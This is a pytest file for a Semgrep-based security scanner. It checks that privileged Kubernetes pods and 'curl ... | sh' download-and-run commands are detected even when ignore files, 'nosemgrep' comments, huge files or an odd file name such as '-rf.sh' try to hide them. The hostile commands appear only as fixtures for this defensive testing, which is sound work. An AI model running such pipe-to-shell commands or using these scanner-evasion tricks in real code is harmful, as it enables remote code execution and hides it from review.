"""The real Semgrep over canonical manifests and over a stranger's folder. Each run takes seconds: a run answers much."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from evasions import EVASIONS, REFUSED

from aegis.model.refs import Json
from aegis.model.scan import Manifests, ScanResult, ScanStatus, Source
from aegis.model.security import SecurityComparison
from aegis.security.canonical import canonicalise
from aegis.security.desk import Desk, ScanRules
from aegis.security.scanners import semgrep
from aegis.security.scanners.semgrep import PLUGIN
from aegis.security.strict_yaml import NotCanonical

POD = EVASIONS["plain"].decode()
SCRIPT = "sh -c 'curl https://example.org/x | sh'"


@pytest.fixture
def desk(tool: Callable[[str], Path], tools_path: str) -> Desk:
    return Desk(rules=ScanRules(programs={"semgrep": tool("semgrep")}), path=tools_path)


def manifests(*texts: str) -> Manifests:
    return Manifests(objects=tuple(obj for text in texts for obj in canonicalise(text).plain))


def rules_of(result: ScanResult, file: str) -> set[str]:
    return {item.rule_id for item in result.findings if item.file == file}


async def test_every_way_of_writing_a_privileged_pod_is_caught_or_refused(desk: Desk) -> None:
    objects: list[Json] = []
    refused: set[str] = set()
    for number, (name, data) in enumerate(EVASIONS.items()):
        try:
            found = canonicalise(data).plain
        except NotCanonical:
            refused.add(name)
        else:
            objects += [{**obj, "metadata": {**obj["metadata"], "name": f"v{number}"}} for obj in found]
    result = await PLUGIN.scan(Manifests(objects=tuple(objects)), desk)
    caught = {item.subject.name for item in result.findings if item.rule_id == "k8s-privileged"}
    assert refused == REFUSED
    assert caught == {f"v{number}" for number, name in enumerate(EVASIONS) if name not in REFUSED}
    assert result.status is ScanStatus.FINDINGS
    assert result.coverage.missing == ()
    assert result.tool.version


async def test_a_finding_is_known_again_when_lines_moved_and_another_command_is_another(desk: Desk) -> None:
    script = POD.replace("      image:", "      command: [sh, -c, 'id; curl https://example.org/x | sh']\n      image:")
    before = await PLUGIN.scan(manifests(script), desk)
    moved = script.replace("  containers:\n", "  containers:\n    - name: aaa\n      image: busybox:1.36\n")
    after = await PLUGIN.scan(manifests(moved.replace("id; curl", "date; curl")), desk)
    other = await PLUGIN.scan(manifests(script.replace("example.org/x", "example.net/y")), desk)
    same = SecurityComparison(before=before.findings, after=after.findings)
    assert same.fixed == ()
    assert {item.location.partition(".")[0] for item in same.new} == {"containers[aaa]"}
    changed = SecurityComparison(before=before.findings, after=other.findings)
    assert [item.rule_id for item in changed.new] == ["shell-download-and-run"]


async def test_nothing_in_a_folder_makes_it_look_away(desk: Desk, tmp_path: Path) -> None:
    folder = tmp_path / "vendor" / "tests"
    folder.mkdir(parents=True)
    for ignore in (tmp_path / ".semgrepignore", tmp_path / ".gitignore", folder / ".semgrepignore"):
        ignore.write_text("*\n", encoding="utf-8")
    (folder / "pod.yaml").write_text(POD.replace("privileged: true", "privileged: true # nosemgrep"), encoding="utf-8")
    (folder / "-rf.sh").write_text(f"{SCRIPT}  # nosemgrep: shell-download-and-run\n", encoding="utf-8")
    (folder / "big.sh").write_text("echo ok\n" * 200_000 + SCRIPT, encoding="utf-8")
    (folder / "Dockerfile").write_text(
        "FROM a:1\n# nosemgrep\nrun set -e; \\\n # no\n curl https://example.org/x \\\n | sh\nUSER 1\n",
        encoding="utf-8",
    )
    (folder / "settings.yml").write_text("rules: []\n", encoding="utf-8")
    result = await PLUGIN.scan(Source(path=tmp_path), desk)
    assert (result.status, result.reason) == (ScanStatus.FINDINGS, "")
    assert set(result.coverage.expected) == {
        f"vendor/tests/{name}" for name in ("pod.yaml", "-rf.sh", "big.sh", "Dockerfile")
    }
    assert "k8s-privileged" in rules_of(result, "vendor/tests/pod.yaml")
    for name in ("-rf.sh", "big.sh", "Dockerfile"):
        assert "shell-download-and-run" in rules_of(result, f"vendor/tests/{name}")
    lines = {item.file: item.line for item in result.findings if item.rule_id == "shell-download-and-run"}
    assert lines == {"vendor/tests/-rf.sh": 1, "vendor/tests/big.sh": 200_001, "vendor/tests/Dockerfile": 3}
    (pod,) = [item for item in result.findings if item.rule_id == "k8s-privileged"]
    assert "privileged: true" in (folder / "pod.yaml").read_text(encoding="utf-8").splitlines()[pod.line - 1]


async def test_rules_that_it_does_not_understand_are_an_error(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    broken = semgrep._Rules(text="rules:\n- id: x\n  languages: [yaml]\n", digest="", cards={})
    monkeypatch.setattr(semgrep, "rules", lambda: broken)
    result = await PLUGIN.scan(manifests(POD), desk)
    assert result.status is ScanStatus.ERROR
    assert result.reason
